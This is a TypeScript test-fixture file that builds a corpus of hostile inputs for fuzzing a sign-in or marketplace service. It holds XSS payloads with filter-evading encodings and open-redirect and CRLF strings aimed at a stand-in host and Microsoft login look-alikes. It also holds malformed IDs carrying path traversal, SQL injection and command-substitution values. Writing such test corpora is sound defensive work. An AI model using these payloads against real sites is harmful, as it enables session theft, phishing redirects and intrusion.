/**
 * Hostile inputs, generated from short lists of attack shapes and the ways attackers disguise them.
 * Families: reflected XSS, open redirect, malformed IDs, oversize. Every list is data;
 * the combinations are computed, so adding one shape adds all its disguises.
 */

export type Family = 'xss' | 'redirect' | 'malformed' | 'oversize';

export interface Payload {
  family: Family;
  value: string;
}

// ---------------------------------------------------------------- reflected XSS

/** Markup that runs script when reflected into text, an attribute, a URL or a raw-text element. */
const xssShapes = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '<img src=x onerror=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '"><svg/onload=alert(1)>',
  '<svg><script>alert&#40;1&#41;</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  '" autofocus onfocus=alert(1) x="',
  '`onfocus=alert(1) autofocus `',
  ' onfocus=alert(1) autofocus ',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'java&#x09;script:alert(1)',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  '<iframe src=javascript:alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href=//evil.example>click</a>',
  '<input autofocus onfocus=alert(1)>',
  '<button formaction=//evil.example>go</button>',
  '<form action=//evil.example><button>go</button></form>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<audio src=x onerror=alert(1)>',
  '<object data=javascript:alert(1)>',
  '<embed src=javascript:alert(1)>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css";</style>',
  '<x onclick=alert(1)>click</x>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '</code><script>alert(1)</script>',
  '<!--<script>alert(1)//-->',
  '--><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<!DOCTYPE html><script>alert(1)</script>',
  '</p><h1>Injected heading</h1><p>',
  '" style="background:url(javascript:alert(1))',
  "';alert(1);//",
  '";alert(1);//',
  '${alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e',
  '"\'`><img src=x onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<img src=`x` onerror=alert(1)>',
  '<div style="width:expression(alert(1))">',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
];

/** Ways the same markup gets past filters: encoded once or twice, as entities, with NULs, in fullwidth. */
const xssDisguises: [string, (s: string) => string][] = [
  ['raw', (s) => s],
  ['url-encoded', (s) => encodeURIComponent(s)],
  ['double-url-encoded', (s) => encodeURIComponent(encodeURIComponent(s))],
  ['html-entities', (s) => s.replace(/[<>"']/g, (c) => `&#${c.charCodeAt(0)};`)],
  ['upper-case', (s) => s.toUpperCase()],
  ['nul-inside', (s) => s.replace(/</g, '<\u0000')],
  ['fullwidth-brackets', (s) => s.replace(/</g, '\uff1c').replace(/>/g, '\uff1e')],
  ['utf7', (s) => s.replace(/</g, '+ADw-').replace(/>/g, '+AD4-')],
];

// ---------------------------------------------------------------- open redirect

/** Destinations that leave the site or impersonate the authority. */
const redirectShapes = [
  '//evil.example',
  '//evil.example/',
  '///evil.example',
  '////evil.example',
  '/\\evil.example',
  '\\\\evil.example',
  '\\/evil.example',
  '/%09/evil.example',
  '/%5cevil.example',
  '/%2f%2fevil.example',
  '%2f%2fevil.example',
  '%252f%252fevil.example',
  'https:evil.example',
  'https:/evil.example',
  'https://evil.example',
  'http://evil.example',
  'HTTPS://EVIL.EXAMPLE',
  'http:/\\/evil.example',
  'http:\\\\evil.example',
  '//evil.example/%2e%2e',
  '//evil%E3%80%82example',
  '//evil\u3002example',
  '\u3031evil.example',
  '//evil.example@localhost',
  'https://login.microsoftonline.com@evil.example',
  'https://login.microsoftonline.com:443@evil.example',
  'https://login.microsoftonline.com%40evil.example',
  'https://login.microsoftonline.com.evil.example',
  'https://login.microsoftonline.com%2eevil.example',
  'https://login.microsoftonline.com.',
  'https://evil.example#@login.microsoftonline.com',
  'https://evil.example?@login.microsoftonline.com',
  'https://evil.example\\@login.microsoftonline.com',
  'https://evil.example%00.login.microsoftonline.com',
  'https://l0gin.microsoftonline.com',
  'https://login.microsoftonIine.com',
  'https://login.micros0ftonline.com',
  'https://login.m\u0456crosoftonline.com',
  'https://xn--login-microsoftonline-evil.example',
  'https://login.microsoftonline.com/evil.example/oauth2/v2.0/authorize',
  'https://localhost@evil.example',
  'http://localhost.evil.example',
  'http://127.0.0.1@evil.example',
  'http://0x7f000001/',
  'http://[::ffff:127.0.0.1]/',
  '/api/callback?next=//evil.example',
  '/api/start?returnUrl=https://evil.example',
  'https://evil.example/api/callback',
  'javascript://%0aalert(1)',
  '//javascript:alert(1)',
];

/** Whitespace and line breaks browsers and URL parsers strip or split on. */
const redirectPrefixes = ['', ' ', '\t', '\n', '\r\n', '%09', '%0a', '%0d%0a', '\u0000', '\u00a0'];

/** Header injection into whatever might build a Location. */
const crlfShapes = [
  '%0d%0aLocation:%20https://evil.example',
  '\r\nLocation: https://evil.example',
  '%0d%0aSet-Cookie:%20__Host-ms-auth-tx=evil',
  '\r\nSet-Cookie: __Host-ms-auth-tx=evil',
  '%E5%98%8A%E5%98%8DLocation:%20https://evil.example',
  '\u560a\u560dLocation: https://evil.example',
  '%0aRefresh:%200;url=https://evil.example',
];

// ---------------------------------------------------------------- malformed IDs

/** Marketplace IDs that look right to a person and are not (or are something else entirely). */
const malformedIds = [
  '',
  ' ',
  '\t',
  '\n',
  'null',
  'undefined',
  '[object Object]',
  '0',
  '-1',
  'true',
  'MP',
  'MP-',
  'M',
  'P-00001',
  'XMP-00001',
  'MP-00001X',
  // case twins with other separators (`mp-00001` itself is what a person types: accepted as MP-00001, inputCorpora.test.ts)
  'mp_00001',
  'Mp 00001',
  'mP00001',
  'mp--00002',
  'MP_00001',
  'MP00001',
  'MP--00001',
  'MP- 00001',
  'MP -00001',
  'MP-+0001',
  'MP-0x001',
  'MP-1e3',
  'MP-00001.5',
  'MP-00001-',
  // lengths around the pattern
  'MP-0001',
  'MP-123456789',
  'MP-0000000000000000001',
  // trailing and leading line breaks, NUL, invisible characters
  'MP-00001\n',
  'MP-00001\r\n',
  'MP-00001\r',
  '\nMP-00001',
  'MP-00001\u0000',
  'MP\u0000-00001',
  'MP-00001%00',
  'MP-00001%0A',
  'MP-00001%0D%0A',
  'MP-00001\u00a0',
  '\u00a0MP-00001',
  'MP-00001\u200b',
  '\u200bMP-00001',
  '\ufeffMP-00001',
  'MP-00001\u2028',
  'MP-00001\u202e',
  '\u202eMP-00001',
  'M\u0301P-00001',
  'MP-00001\u000b',
  'MP-00001\f',
  'MP-00001\u3000',
  // Unicode look-alikes: Cyrillic, Greek, fullwidth, other digits and dashes
  '\u041c\u0420-00001',
  'M\u0420-00001',
  '\u041cP-00001',
  '\u039c\u03a1-00001',
  '\u039cP-00001',
  'M\u03a1-00001',
  '\uff2d\uff30\uff0d\uff10\uff10\uff10\uff10\uff11',
  'MP\uff0d00001',
  'MP-\uff10\uff10\uff10\uff10\uff11',
  'MP-0000\uff11',
  'MP-\u0660\u0660\u0660\u0660\u0661',
  'MP-\u0966\u0966\u0966\u0966\u0967',
  'MP-0000\u0967',
  'MP\u200000001',
  'MP\u201000001',
  'MP\u201100001',
  'MP\u201200001',
  'MP\u201300001',
  'MP\u201400001',
  'MP\u221200001',
  'MP\ufe6300001',
  '\u2133\u2119-00001',
  '\ud835\udc0c\ud835\udc0f-00001',
  'MP-\ud835\udfce\ud835\udfce\ud835\udfce\ud835\udfce\ud835\udfcf',
  'MP-\u2070\u2070\u2070\u2070\u00b9',
  'MP-\u2460',
  // paths, secret names and wildcards
  '../MP-00001',
  '..%2fMP-00001',
  'MP-00001/../MP-00002',
  'MP-00001/../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'MP-00001/',
  'MP-00001?x=1',
  'MP-00001#',
  'refresh-token-test-MP-00001',
  'partner-secret-MP-00001',
  'cpv-client-secret',
  '*',
  'MP-*',
  'MP-0000?',
  'MP-[0-9]',
  '.*',
  'MP-%',
  'MP-00001%2500',
  // several IDs, injection into other languages, format strings, log forging
  'MP-00001 MP-00002',
  'MP-00001,MP-00002',
  'MP-00001;MP-00002',
  "MP-00001'",
  'MP-00001"',
  "MP-00001' OR '1'='1",
  '{"$ne":null}',
  'MP-00001;DROP TABLE x',
  '%s%s%s%n',
  '%x%x',
  '{0}',
  '$(id)',
  '`id`',
  'MP-00001\n{"event":"TokenGenerated","marketplace":"MP-00002"}',
  'MP-00001\r\nX-Injected: 1',
];

// ---------------------------------------------------------------- oversize

const oversize = [65, 100, 1000, 2000, 2100, 4096, 10 * 1024].flatMap((n) => [
  'A'.repeat(n),
  `MP-${'0'.repeat(n)}`,
  '<'.repeat(n),
  '\u00e9'.repeat(n),
]);

// ---------------------------------------------------------------- the corpus

function unique(list: Payload[]): Payload[] {
  const seen = new Set<string>();
  return list.filter((p) => (seen.has(p.value) ? false : (seen.add(p.value), true)));
}

export const xssPayloads: Payload[] = unique(xssShapes.flatMap((s) => xssDisguises.map(([, f]) => ({ family: 'xss' as const, value: f(s) }))));

export const redirectPayloads: Payload[] = unique([
  ...redirectShapes.flatMap((s, i) =>
    // Every shape raw; every third one also behind each whitespace prefix, and with the app's own path appended.
    (i % 3 === 0 ? redirectPrefixes : ['']).map((p) => ({ family: 'redirect' as const, value: p + s })),
  ),
  ...crlfShapes.map((value) => ({ family: 'redirect' as const, value })),
]);

export const malformedPayloads: Payload[] = unique(malformedIds.map((value) => ({ family: 'malformed' as const, value })));

export const oversizePayloads: Payload[] = unique(oversize.map((value) => ({ family: 'oversize' as const, value })));

/** Every distinct input, each once. */
export const corpus: Payload[] = unique([...xssPayloads, ...redirectPayloads, ...malformedPayloads, ...oversizePayloads]);

/**
 * A deterministic spread over the corpus: every family represented, about `n` inputs. Used for
 * parameters where each input costs a sign-in transaction, so the suite stays fast.
 */
export function sample(n: number, from: Payload[] = corpus): Payload[] {
  if (n >= from.length) return from;
  const step = from.length / n;
  return Array.from({ length: n }, (_, i) => from[Math.floor(i * step)] as Payload);
}

/** Values a header can carry (node refuses to send CR, LF, NUL or characters above U+00FF): others are percent-encoded. */
export function asHeaderValue(value: string): string {
  return /^[\t\x20-\x7e]*$/.test(value) ? value : encodeURIComponent(value);
}

export function countByFamily(list: Payload[]): Record<Family, number> {
  const counts: Record<Family, number> = { xss: 0, redirect: 0, malformed: 0, oversize: 0 };
  for (const p of list) counts[p.family]++;
  return counts;
}
